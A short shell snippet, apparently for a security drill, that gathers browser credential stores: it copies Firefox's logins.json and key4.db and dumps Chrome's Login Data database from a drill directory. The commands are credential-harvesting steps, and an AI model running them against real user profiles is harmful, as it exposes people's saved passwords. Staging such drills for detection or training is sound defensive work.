cd "${DRILL:?this is for a drill alone}" || exit
cp .mozilla/firefox/abcd.default/logins.json .mozilla/firefox/abcd.default/key4.db ./
sqlite3 '.config/google-chrome/Default/Login Data' .dump
